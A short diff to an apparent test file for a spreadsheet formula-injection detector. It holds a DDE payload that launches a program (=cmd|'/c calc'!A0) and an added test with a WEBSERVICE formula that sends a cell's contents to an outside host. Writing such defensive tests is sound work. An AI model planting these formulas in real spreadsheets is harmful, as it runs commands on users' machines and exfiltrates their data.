@@ -89,3 +89,8 @@ it('a cell of text is a formula only if it acts', () => {
   }
   expect(isFormulaCell(`\t=cmd|'/c calc'!A0`)).toBe(true)
 })
+
+it('joins what is known where a cell is not', () => {
+  const { actions } = evaluate('=WEBSERVICE(CONCATENATE("http://a/?",B2))')
+  expect(actions[0]?.target).toBe('http://a/?…')
+})
